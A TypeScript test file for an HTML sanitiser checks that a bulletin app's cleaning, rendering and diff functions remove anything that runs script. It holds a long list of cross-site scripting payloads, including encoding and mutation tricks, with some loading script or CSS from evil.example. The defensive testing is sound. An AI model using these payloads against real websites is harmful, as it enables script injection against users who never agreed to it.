import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cleanHtml } from '../src/bulletin/html/clean-html.js';
import { forReaders } from '../src/bulletin/html/for-readers.js';
import { plainText } from '../src/bulletin/html/plain-text.js';
import { markedDifference } from '../src/bulletin/site/marked-difference.js';
import { strangers } from './kit/strangers.js';

const FILE = '01935342-1111-7111-8111-111111111111';
const call = 'window.hit=1';

/** Ways in which texts have run things in readers' browsers, each in a spelling of its own. */
const VECTORS: readonly string[] = [
  // Elements that run by themselves.
  `<script>${call}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script/x>${call}</script/x>`,
  `<script\n>${call}</script\n>`,
  `<<script>script>${call}<</script>/script>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href="data:,${call}" /></svg>`,
  `<svg><script>&#119;indow.hit=1</script></svg>`,
  `<math><script>${call}</script></math>`,
  `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<applet code="x"></applet>`,
  `<frameset onload=${call}><frame src=x></frameset>`,
  `<portal src="javascript:${call}"></portal>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  `<base href="javascript:/a/-${call}//"><a href="#">x</a>`,
  `<link rel="import" href="data:text/html,<script>${call}</script>">`,
  `<template shadowrootmode=open><script>${call}</script></template>`,
  // Handlers of all sorts.
  `<img src=x onerror=${call}>`,
  `<img src=x onerror='${call}'>`,
  `<img src=x onerror=\`${call}\`>`,
  `<img/src=x/onerror=${call}>`,
  `<img src=x\fonerror=${call}>`,
  `<img src="x\u0000" onerror=${call}>`,
  `<img src=x:x onerror\n=\n${call}>`,
  `<IMG """><SCRIPT>${call}</SCRIPT>">`,
  `<svg/onload=${call}>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${call}>`,
  `<svg><a><animate attributeName=href values=javascript:${call} /><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${call}'/>#x"/></svg>`,
  `<body onload=${call}>`,
  `<details open ontoggle=${call}>x</details>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}>`,
  `<textarea autofocus onfocus=${call}>`,
  `<video src=x onerror=${call}></video>`,
  `<video><source onerror=${call}></video>`,
  `<audio src onloadstart=${call}>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<p style="animation-name:x" onanimationstart=${call}>x</p>`,
  `<div tabindex=0 autofocus onfocusin=${call}>x</div>`,
  `<xss contenteditable onbeforeinput=${call}>x</xss>`,
  `<p popover id=x onbeforetoggle=${call}>x</p><button popovertarget=x>y</button>`,
  `<a href="https://a.example/" onclick=${call} ping="https://evil.example">x</a>`,
  `<td background="javascript:${call}">x</td>`,
  // Addresses.
  `<a href="javascript:${call}">x</a>`,
  `<a href=" &#14; javascript:${call}">x</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${call}">x</a>`,
  `<a href="&#0000106avascript:${call}">x</a>`,
  `<a href="jav&#x0A;ascript:${call}">x</a>`,
  `<a href="jav&Tab;ascript&colon;${call}">x</a>`,
  `<a href="java\u0000script:${call}">x</a>`,
  `<a href="JaVaScRiPt:${call}">x</a>`,
  `<a href="javascript&#58;${call}">x</a>`,
  `<a href="\u0001\u0002javascript:${call}">x</a>`,
  `<a href="ｊａｖａｓｃｒｉｐｔ:${call}">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+">x</a>`,
  `<a href="vbscript:${call}">x</a>`,
  `<a href="view-source:javascript:${call}">x</a>`,
  `<a href="feed:javascript:${call}">x</a>`,
  `<a href="https:javascript:${call}">x</a>`,
  `<a href="//evil.example">x</a>`,
  `<a href="\\\\evil.example">x</a>`,
  `<a href="xg-file:${FILE}&#x22; onclick=${call} x=&#x22;">x</a>`,
  `<a href="xg-file:${FILE}'onmouseover='${call}">x</a>`,
  `<a href="mailto:a@b.cn?subject=x&quot;onclick=&quot;${call}">x</a>`,
  `<a href="https://a.example/?x=<script>${call}</script>">x</a>`,
  `<img src="xg-file:${FILE}" alt="x&quot; onerror=&quot;${call}">`,
  `<img src="/files/../javascript:${call}">`,
  `<img src="data:image/svg+xml,<svg onload=${call}>">`,
  `<img srcset="x 1x, javascript:${call} 2x" src=x>`,
  `<img lowsrc="javascript:${call}" dynsrc="javascript:${call}">`,
  `<form action="javascript:${call}"><button>x</button></form>`,
  `<form><button formaction="javascript:${call}">x</button></form>`,
  `<isindex type=image src=1 onerror=${call}>`,
  // Looks that act.
  `<p style="width:expression(${call})">x</p>`,
  `<p style="background:url('javascript:${call}')">x</p>`,
  `<p style="behavior:url(x.htc);-moz-binding:url(x.xml#y)">x</p>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<style><img src="</style><img src=x onerror=${call}//">`,
  // Marks that browsers mend into something else.
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<noembed><p title="</noembed><img src=x onerror=${call}>">`,
  `<noframes><p title="</noframes><img src=x onerror=${call}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
  `<title><p title="</title><img src=x onerror=${call}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${call}>">`,
  `<iframe><p title="</iframe><img src=x onerror=${call}>">`,
  `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
  `<plaintext><img src=x onerror=${call}>`,
  `<math><mi><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${call}></style></annotation-xml></math>`,
  `<svg><foreignObject><p><style><img src="</style><img src=x onerror=${call}>"></style></p></foreignObject></svg>`,
  `<svg><desc><style><a title="</style><img src=x onerror=${call}>">`,
  `<svg><title><a id="</title><img src=x onerror=${call}>">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${call} src>">`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='${call}'>"></style></h1>`,
  `<table><td><svg><p></table><style><img title="</style><img src=x onerror=${call}>">`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${call}>">`,
  `<a><table><a href=javascript:${call}></table></a>`,
  `<b><p><b><p><b><p><b><p><script>${call}</script>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<!--a--!><img src=x onerror=${call}>-->`,
  `<!-- --!><script>${call}</script>-->`,
  `<!--[if gte IE 4]><script>${call}</script><![endif]-->`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `<svg><![CDATA[</svg><img src=x onerror=${call}>]]>`,
  `<?xml version="1.0"?><?php echo 1 ?><img src=x onerror=${call}>`,
  `<!DOCTYPE html [<!ENTITY x "<img src=x onerror=${call}>">]>&x;`,
  `</p/><img src=x onerror=${call}>`,
  `<p title="</p><img src=x onerror=${call}>">`,
  `<p =">"<img src=x onerror=${call}>`,
  `<a href="https://a.example/" title='"><img src=x onerror=${call}>'>x</a>`,
  `&lt;img src=x onerror=${call}&gt;`,
  `&amp;lt;img src=x onerror=${call}&amp;gt;`,
  `&#60;img src=x onerror=${call}&#62;`,
  `<img src=x onerror=${call}`,
  `<img src="x onerror=${call}>`,
  `"><img src=x onerror=${call}>`,
  // Names that mean something to programs, and letters that are none.
  `<img name=getElementById><form id=attributes><input name=innerHTML></form>`,
  `<constructor><__proto__><toString>x`,
  `<\u212Acript>${call}</\u212Acript><ſcript>${call}</ſcript>`,
  `<p>\uD800<img src=x onerror=${call}>\uDFFF</p>`,
  `\u2028<img\u2028src=x\u2028onerror=${call}>\u2029`,
  `\uFEFF<script>${call}</script>`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
];

describe('a text that would run something', () => {
  it.each(VECTORS)('holds nothing of it: %s', (dirty) => {
    for (const around of [
      dirty,
      `<p>前${dirty}后</p>`,
      `<table><tr><td>${dirty}</td></tr></table>`,
      `<ul><li>${dirty}`,
    ]) {
      const once = cleanHtml(around);
      expect(strangers(once.html)).toEqual([]);
      expect(cleanHtml(once.html)).toEqual(once);
      // As readers get it, less the looks that we add and the addresses that we give out.
      const shown = forReaders(once.html, new Set([FILE]), () => '/files/x?a=1&b="2"')
        .replace(/ style="[^"]*"/g, '')
        .replaceAll('/files/x?a=1&amp;b=&quot;2&quot;', `xg-file:${FILE}`);
      expect(strangers(shown)).toEqual([]);
      expect(plainText(once.html)).not.toMatch(/<\/?(?:p|td|li|ul|tr)>/);
    }
  });

  it('of two texts each, shows a difference that holds nothing but marks and the newer text’s mark-up', () => {
    const text = fc.oneof(
      fc.constantFrom(...VECTORS),
      fc
        .array(
          fc.constantFrom('<p>', '</p>', '甲', '乙', '<b>', '</b>', '&lt;', 'ab', '<table><td>', '<li>', ' ', '>', '"'),
          {
            maxLength: 12,
          },
        )
        .map((parts) => parts.join('')),
    );
    fc.assert(
      fc.property(text, text, (before, after) => {
        const [from, to] = [cleanHtml(before).html, cleanHtml(after).html];
        const marked = markedDifference(from, to);
        expect(strangers(marked, ['ins', 'del'])).toEqual([]);
        // Without what went and the marks it is the newer text, letter by letter.
        expect(
          marked
            .replace(/<del>[^<]*<\/del>/g, '')
            .replace(/<\/?ins>/g, '')
            .replace(/\s+/g, ''),
        ).toBe(to.replace(/\s+/g, ''));
      }),
      { numRuns: 600 },
    );
  });

  it('that never comes to rest is left as words', () => {
    // Two rounds are needed here; with one alone no mark-up may be trusted.
    const restless = '<a href="https://b.example/"><li><table>x';
    expect(cleanHtml(restless).html).toContain('<');
    const { html, pictures } = cleanHtml(`${restless}<img src="xg-file:${FILE}">`, 1);
    expect([html, pictures]).toEqual(['x', []]);
    expect(cleanHtml(html).html).toBe(html);
  });
});
